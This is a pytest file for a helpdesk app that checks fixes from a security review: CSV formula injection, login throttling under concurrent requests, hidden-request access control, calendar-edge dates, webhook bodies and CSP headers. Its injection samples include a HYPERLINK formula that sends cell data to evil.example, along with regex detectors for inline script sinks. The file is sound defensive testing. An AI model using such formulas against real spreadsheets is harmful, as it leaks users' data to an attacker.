"""The findings of the outside security review (issue 13, item 9), each reproduced: spreadsheet
formulas in the CSV export, login throttling under concurrent requests, hidden requests shown to
agents, dates at the ends of the calendar, security headers, and webhook bodies that are chunked
or carry NaN."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import threading
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from sqlalchemy import func, select, update

from helpdesk.accounts.models import Agent, Role
from helpdesk.dm.models import Conversation, Message, RequestState
from helpdesk.extensions import db
from helpdesk.logins.models import LoginAttempt, LoginOutcome
from helpdesk.logins.service import reserve
from tests.conftest import serving, table_counts
from tests.factories import PASSWORD, ContactFactory
from tests.helpers.api import Client, token_for
from tests.helpers.console import CSRF_RE, login, post, signed_in
from tests.helpers.metrics import FIRST, LAST, History
from tests.helpers.webhooks import ACCOUNT, sign, text_delivery
from tests.helpers.world import World, receive

RANGE = {"from": FIRST.isoformat(), "to": LAST.isoformat()}
FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'


@pytest.fixture
def history(client) -> History:
    history = History(client)
    history.build()
    history.run_workers()
    return history


def export(client, table: str, **args) -> list[list[str]]:
    response = client.get("/dashboard/export.csv", query_string={"table": table, **args})
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


# CSV formula injection --------------------------------------------------------------------------


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)"])
def test_a_tag_named_like_a_formula_is_exported_as_text(client, history, name):
    """Any agent-role token can name a tag: the spreadsheet must show it, not run it."""
    agents_api = Client(client, token_for(history.brand, Role.AGENT))
    tagged = agents_api.post(f"/tickets/{history.ticket(1).id}/tags", json={"name": name})
    assert tagged.status_code in (200, 201), tagged.get_data(as_text=True)
    history.run_workers()
    signed_in(client, history.manager)
    labels = [line[0] for line in export(client, "tag", **RANGE)[1:]]
    assert f"'{name}" in labels, labels
    assert name not in labels


@pytest.mark.parametrize("name", [FORMULA, "+Ada", "-Ada", "@cmd", "\tAda", "\r=1+1"])
def test_an_agent_named_like_a_formula_is_exported_as_text(client, history, name):
    db.session.execute(update(Agent).where(Agent.id == history.a.id).values(name=name))
    db.session.commit()
    signed_in(client, history.manager)
    labels = [line[0] for line in export(client, "agent", **RANGE)[1:]]
    assert f"'{name}" in labels, labels
    assert name not in labels


def test_ordinary_names_and_numbers_are_exported_unchanged(client, history):
    signed_in(client, history.manager)
    lines = export(client, "agent", **RANGE)
    labels = [line[0] for line in lines[1:]]
    assert "Ada Agent" in labels and "Ben Agent" in labels
    assert all(not cell.startswith("'") for line in lines[1:] for cell in line[1:])


# Dates at the ends of the calendar --------------------------------------------------------------

EDGES = [
    {"from": "0001-01-01", "to": "0001-01-02"},
    {"from": "9999-12-30", "to": "9999-12-31"},
    {"from": "0001-01-01", "to": "0001-01-01"},
    {"from": "9999-12-31", "to": "9999-12-31"},
    {"to": "0001-01-15"},
    {"from": "9999-12-01"},
]


@pytest.fixture
def desk(client) -> World:
    return World()


@pytest.mark.parametrize("args", EDGES)
def test_the_dashboard_refuses_dates_at_the_ends_of_the_calendar_with_a_flash(client, desk, args):
    signed_in(client, desk.manager)
    response = client.get("/dashboard", query_string=args)
    text = response.get_data(as_text=True)
    assert response.status_code == 200, text[:300]
    assert "flash-error" in text and "showing the last 30 days instead" in text
    assert "Traceback" not in text and "OverflowError" not in text
    exported = client.get("/dashboard/export.csv", query_string={"table": "day", **args})
    assert exported.status_code == 200
    assert "0001-" not in exported.headers["Content-Disposition"]
    assert "9999-" not in exported.headers["Content-Disposition"]


@pytest.mark.parametrize("args", EDGES)
def test_the_metrics_api_refuses_dates_at_the_ends_of_the_calendar(client, desk, args):
    api = Client(client, token_for(desk.brand, Role.MANAGER))
    for group_by in (None, "day"):
        query = {**args, **({"group_by": group_by} if group_by else {})}
        response = api.get("/metrics/summary", query_string=query)
        assert response.status_code == 422, response.get_data(as_text=True)[:300]
        error = response.get_json()["error"]
        assert error["code"] == "invalid" and "1 January 2000" in str(error), error


def test_dates_inside_the_supported_range_still_work(client, desk):
    signed_in(client, desk.manager)
    args = {"from": "2000-01-01", "to": "2000-01-31"}
    text = client.get("/dashboard", query_string=args).get_data(as_text=True)
    assert "flash-error" not in text
    api = Client(client, token_for(desk.brand, Role.MANAGER))
    assert api.get("/metrics/summary", query_string=args).status_code == 200
    first_days = api.get("/metrics/summary", query_string={"to": "2000-01-05"})
    assert first_days.status_code == 200 and first_days.get_json()["from"] == "2000-01-01"


# Webhook bodies ---------------------------------------------------------------------------------

MIB = 1024 * 1024


def post_chunked(base_url: str, raw: bytes, signature: str, chunk: int = 64 * 1024):
    """POST the body with Transfer-Encoding: chunked and no Content-Length, as a real client
    streaming it does: (status, JSON body)."""
    parts = urlsplit(base_url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30)
    try:
        connection.request(
            "POST",
            "/webhooks/instagram",
            body=(raw[i : i + chunk] for i in range(0, len(raw), chunk)),
            headers={"Content-Type": "application/json", "X-Hub-Signature-256": signature},
            encode_chunked=True,
        )
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def counts() -> dict[str, int]:
    """Rows per table, read in a transaction that ends at once so the served app can write."""
    try:
        return table_counts()
    finally:
        db.session.rollback()


def padded_delivery(size: int) -> bytes:
    """A valid delivery made `size` bytes long with trailing spaces (still JSON)."""
    raw = text_delivery(1, "mid-padded-")
    return raw + b" " * (size - len(raw))


def test_a_chunked_body_over_one_mib_is_413_and_stores_nothing(app):
    raw = padded_delivery(MIB + 10)
    before = counts()
    with serving(app) as base_url:
        status, body = post_chunked(base_url, raw, sign(raw))
    assert status == 413, body[:300]
    assert json.loads(body)["error"]["code"] == "too_large"
    assert counts() == before


def test_a_chunked_body_over_one_mib_is_413_even_unsigned(app):
    """The size is refused before the signature is checked, whatever the signature says."""
    raw = padded_delivery(2 * MIB)
    with serving(app) as base_url:
        status, _body = post_chunked(base_url, raw, "sha256=" + "0" * 64)
    assert status == 413


def test_a_chunked_body_within_the_limit_is_stored(app):
    raw = padded_delivery(MIB - 1)
    before = counts()
    with serving(app) as base_url:
        status, body = post_chunked(base_url, raw, sign(raw))
    assert status == 200, body[:300]
    assert counts()["webhook_events"] == before["webhook_events"] + 1


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_a_signed_body_with_a_bare_nan_or_infinity_is_400_and_stores_nothing(client, constant):
    raw = (
        '{"object":"instagram","entry":[{"id":"ACCOUNT","time":CONSTANT,"messaging":[]}]}'.replace(
            "ACCOUNT", ACCOUNT
        )
        .replace("CONSTANT", constant)
        .encode()
    )
    before = counts()
    response = client.post(
        "/webhooks/instagram",
        data=raw,
        headers={"Content-Type": "application/json", "X-Hub-Signature-256": sign(raw)},
    )
    assert response.status_code == 400, response.get_data(as_text=True)
    assert response.get_json()["error"]["code"] == "bad_json"
    assert counts() == before


# Hidden requests --------------------------------------------------------------------------------


class HiddenRequest:
    """A brand with one ordinary conversation and one request hidden by its filter words."""

    def __init__(self) -> None:
        self.world = World()
        self.world.brand.hidden_words = ["giveaway"]
        self.stranger = ContactFactory(
            channel=self.world.channel, username="crypto.king", name="Crypto King"
        )
        message = receive(self.world.channel, self.stranger.platform_id, "Win our giveaway now")
        self.conversation = db.session.get(Conversation, message.conversation_id)
        assert self.conversation.request_state is RequestState.HIDDEN
        db.session.commit()
        self.id = self.conversation.id


@pytest.fixture
def hidden() -> HiddenRequest:
    return HiddenRequest()


def listed_ids(api: Client, **query) -> set[int]:
    response = api.get("/conversations", query_string=query)
    assert response.status_code == 200, response.get_data(as_text=True)
    return {item["id"] for item in response.get_json()["items"]}


@pytest.mark.parametrize("role", [Role.AGENT, Role.MANAGER])
def test_a_token_below_admin_neither_lists_nor_reads_hidden_requests(client, hidden, role):
    api = Client(client, token_for(hidden.world.brand, role))
    assert hidden.id not in listed_ids(api, request_state="hidden")
    assert hidden.id not in listed_ids(api, request_state="hidden", q="giveaway")
    assert hidden.id not in listed_ids(api, folder="requests")
    for path in (f"/conversations/{hidden.id}", f"/conversations/{hidden.id}/messages"):
        response = api.get(path)
        assert response.status_code == 404, (path, response.get_data(as_text=True))
        assert "giveaway" not in response.get_data(as_text=True)
    assert hidden.world.conversation.id in listed_ids(api)  # the rest of the inbox is there


def test_a_token_below_admin_cannot_act_on_a_hidden_request(client, hidden):
    api = Client(client, token_for(hidden.world.brand, Role.AGENT))
    message_id = db.session.scalar(select(Message.id).where(Message.conversation_id == hidden.id))
    before = counts()
    accepted = api.post(f"/conversations/{hidden.id}/request", json={"action": "accept"})
    assert accepted.status_code == 404
    reacted = api.post(f"/messages/{message_id}/reactions", json={"emoji": "❤️"})
    assert reacted.status_code == 404
    assert counts() == before


def test_an_admin_token_still_lists_and_reads_hidden_requests(client, hidden):
    api = Client(client, token_for(hidden.world.brand, Role.ADMIN))
    assert hidden.id in listed_ids(api, request_state="hidden")
    assert api.get(f"/conversations/{hidden.id}").status_code == 200
    messages = api.get(f"/conversations/{hidden.id}/messages")
    assert messages.status_code == 200
    assert "Win our giveaway now" in [m["text"] for m in messages.get_json()["items"]]


@pytest.mark.parametrize("query", ["crypto", "king", "giveaway"])
def test_console_search_does_not_show_a_hidden_requests_contact_below_admin(client, hidden, query):
    for agent, shown in (
        (hidden.world.agent, False),
        (hidden.world.manager, False),
        (hidden.world.admin, True),
    ):
        signed_in(client, agent)
        page = client.get("/search", query_string={"q": query}).get_data(as_text=True)
        assert ("Crypto King" in page or "crypto.king" in page) is shown, (agent.name, query)
        post(client, "/logout")


def test_console_search_still_finds_a_contact_of_an_ordinary_conversation(client, hidden):
    signed_in(client, hidden.world.agent)
    page = client.get("/search", query_string={"q": "jane"}).get_data(as_text=True)
    assert "Jane Doe" in page or "jane.doe" in page


# Login throttling under concurrent requests ---------------------------------------------------

LIMIT = 5  # failures per email before the lock (ThrottlePolicy.per_email)


def outcomes() -> dict[LoginOutcome, int]:
    db.session.expire_all()
    rows = db.session.execute(
        select(LoginAttempt.outcome, func.count()).group_by(LoginAttempt.outcome)
    ).all()
    db.session.rollback()
    return {outcome: count for outcome, count in rows}


def concurrent_logins(base_url: str, email: str, passwords: list[str]) -> list[int]:
    """Each password posted by a browser of its own (its own session and CSRF token), all
    released at once behind a barrier: the status of each answer."""
    barrier = threading.Barrier(len(passwords))
    statuses: list[int | Exception] = [0] * len(passwords)

    def sign_in(index: int, password: str) -> None:
        with httpx.Client(base_url=base_url, timeout=60) as browser:
            try:
                token = CSRF_RE.search(browser.get("/login").text).group(1)
                barrier.wait(timeout=30)
                response = browser.post(
                    "/login",
                    data={"email": email, "password": password, "csrf_token": token},
                )
                statuses[index] = response.status_code
            except Exception as exc:  # reported by the assertion below
                statuses[index] = exc

    threads = [
        threading.Thread(target=sign_in, args=(i, password)) for i, password in enumerate(passwords)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert all(isinstance(status, int) for status in statuses), statuses
    return statuses


@pytest.fixture
def target(app) -> str:
    """An agent's email, committed, with the test's own transaction ended: the served app's
    threads are the ones writing. PostgreSQL is where the requests really overlap (SQLite
    serialises its writers), so that is where these tests show the limit holding."""
    email = World().agent.email
    db.session.rollback()
    return email


@pytest.mark.slow
def test_twelve_simultaneous_sign_ins_check_no_more_passwords_than_the_limit(app, target):
    passwords = [f"wrong password {n}" for n in range(11)] + [PASSWORD]
    with serving(app) as base_url:
        statuses = concurrent_logins(base_url, target, passwords)
    found = outcomes()
    assert found.get(LoginOutcome.PENDING, 0) == 0, found
    assert statuses.count(302) == found.get(LoginOutcome.SUCCESS, 0) <= 1, (statuses, found)
    # In the order the attempts were counted: at most LIMIT passwords checked before the right
    # one, and, since a success starts the count again, at most LIMIT after it.
    sequence = db.session.scalars(select(LoginAttempt.outcome).order_by(LoginAttempt.id)).all()
    db.session.rollback()
    checked = [o for o in sequence if o in (LoginOutcome.FAILURE, LoginOutcome.SUCCESS)]
    split = checked.index(LoginOutcome.SUCCESS) + 1 if LoginOutcome.SUCCESS in checked else 0
    before, after = checked[:split] if split else checked, checked[split:] if split else []
    assert len(before) <= LIMIT and len(after) <= LIMIT, (sequence, statuses)
    assert found.get(LoginOutcome.THROTTLED, 0) == len(passwords) - len(checked), found


@pytest.mark.slow
def test_after_simultaneous_wrong_passwords_the_right_one_is_refused(app, target):
    with serving(app) as base_url:
        statuses = concurrent_logins(base_url, target, [f"wrong {n}" for n in range(12)])
        assert outcomes().get(LoginOutcome.FAILURE) == LIMIT, statuses
        assert statuses.count(429) >= 12 - LIMIT, statuses
        (right,) = concurrent_logins(base_url, target, [PASSWORD])
    assert right == 429


def test_a_sign_in_whose_password_is_being_checked_counts_against_the_limit(client, world):
    """Five requests reserved and still checking their passwords (other processes): a sixth is
    refused unchecked, even with the right password."""
    for _ in range(LIMIT):
        reserve(world.agent.email, "198.51.100.9")
    db.session.commit()
    response = login(client, world.agent.email)
    assert response.status_code == 429
    assert "Too many failed sign-ins" in response.get_data(as_text=True)
    assert outcomes() == {LoginOutcome.PENDING: LIMIT, LoginOutcome.THROTTLED: 1}


def test_a_settled_success_still_starts_the_count_again(client, world):
    for _ in range(LIMIT - 1):
        assert login(client, world.agent.email, "nope").status_code == 401
    assert login(client, world.agent.email).status_code == 302
    assert outcomes() == {LoginOutcome.FAILURE: LIMIT - 1, LoginOutcome.SUCCESS: 1}


# Security headers -------------------------------------------------------------------------------

TEMPLATES = Path(__file__).resolve().parent.parent / "templates"
STATIC = Path(__file__).resolve().parent.parent / "helpdesk" / "static"
STREAMS = {"console.live_stream"}  # held open for minutes: its headers are checked on its own


def csp_directives(response) -> dict[str, list[str]]:
    policy = response.headers.get("Content-Security-Policy", "")
    parts = [part.split() for part in policy.split(";") if part.strip()]
    return {name: values for name, *values in parts}


def assert_secure_headers(response, what: str) -> None:
    csp = csp_directives(response)
    assert csp.get("default-src") == ["'self'"], (what, csp)
    assert csp.get("script-src") == ["'self'"], (what, csp)
    assert csp.get("frame-ancestors") == ["'none'"], (what, csp)
    assert csp.get("base-uri") == ["'none'"], (what, csp)
    assert csp.get("form-action") == ["'self'"], (what, csp)
    assert csp.get("connect-src") == ["'self'"], (what, csp)
    assert "https:" in csp.get("img-src", []), (what, csp)
    assert not any("unsafe" in v for v in csp["script-src"] + csp["default-src"]), (what, csp)
    assert response.headers.get("X-Frame-Options") == "DENY", what
    assert response.headers.get("X-Content-Type-Options") == "nosniff", what
    assert response.headers.get("Referrer-Policy") == "same-origin", what


def console_pages(app, conversation_id: int) -> list[str]:
    """Every console, dashboard and sign-in page a browser GETs, ids filled in."""
    paths = []
    for rule in app.url_map.iter_rules():
        blueprint = rule.endpoint.partition(".")[0]
        if "GET" not in rule.methods or rule.endpoint in STREAMS:
            continue
        if blueprint not in ("console", "dashboard", "auth", "main"):
            continue
        if rule.arguments - {"conversation_id"}:
            continue  # a message, a note or a canned reply: the conversation page shows them
        paths.append(rule.rule.replace("<int:conversation_id>", str(conversation_id)))
    return sorted(paths)


def test_the_login_page_carries_the_security_headers(client):
    assert_secure_headers(client.get("/login"), "/login")


def test_every_console_page_carries_the_security_headers(app, client, world):
    pages = console_pages(app, world.conversation.id)
    assert {"/inbox", "/search", "/dashboard", "/notifications", "/login"} <= set(pages)
    assert f"/conversations/{world.conversation.id}" in pages
    signed_in(client, world.admin)
    for path in pages:
        response = client.get(path, query_string={"q": "order", "table": "agent"})
        assert response.status_code < 500, path
        assert_secure_headers(response, path)


def test_error_pages_files_and_the_api_carry_them_too(client, world):
    signed_in(client, world.agent)
    assert_secure_headers(client.get("/conversations/999999"), "a 404")
    assert_secure_headers(client.get("/dashboard"), "a 403")
    assert_secure_headers(client.get("/static/console.css"), "a static file")
    assert_secure_headers(client.get("/api/v1/conversations"), "the API")


def test_the_live_stream_carries_them(app, world):
    client = app.test_client()
    signed_in(client, world.agent)
    response = client.get("/live/stream", buffered=False)
    try:
        assert_secure_headers(response, "/live/stream")
    finally:
        response.close()


def test_the_pages_ask_for_the_same_referrer_policy_as_the_header(client):
    html = client.get("/login").get_data(as_text=True)
    meta = re.search(r'<meta name="referrer" content="([^"]+)"', html)
    assert meta is None or meta.group(1) == "same-origin"


INLINE_SCRIPT = re.compile(r"<script\b(?![^>]*\bsrc=)[^>]*>", re.I)
TAG = re.compile(r"<[a-zA-Z][^<>]*>", re.S)
INLINE_HANDLER = re.compile(r"""[\s"'/]on[a-z]+\s*=""", re.I)
JS_URL = re.compile(r"javascript\s*:", re.I)
JS_SINK = re.compile(
    r"""<[a-z][^>]*\son[a-z]+\s*=|setAttribute\(\s*["']on|\beval\(|new Function\(""", re.I
)


def test_no_template_has_an_inline_script_handler_or_javascript_url():
    """The policy refuses them: each would silently stop working in the browser."""
    found = []
    for path in sorted(TEMPLATES.rglob("*.html")):
        text = path.read_text()
        name = path.relative_to(TEMPLATES)
        found += [f"{name}: {m.group(0)}" for m in INLINE_SCRIPT.finditer(text)]
        for tag in TAG.findall(text):
            if INLINE_HANDLER.search(tag) or JS_URL.search(tag):
                found.append(f"{name}: {tag[:120]}")
    assert not found, "\n".join(found)


def test_no_script_writes_an_inline_handler_or_javascript_url():
    found = []
    for path in sorted(STATIC.glob("*.js")):
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if JS_SINK.search(line) or JS_URL.search(line):
                found.append(f"{path.name}:{number}: {line.strip()[:120]}")
    assert not found, "\n".join(found)


def test_the_dashboard_polls_the_backlog_from_a_script_file(client, world):
    signed_in(client, world.manager)
    html = client.get("/dashboard").get_data(as_text=True)
    assert '<script src="/static/dashboard.js"' in html
    assert 'data-every="30000"' in html
    assert client.get("/static/dashboard.js").status_code == 200
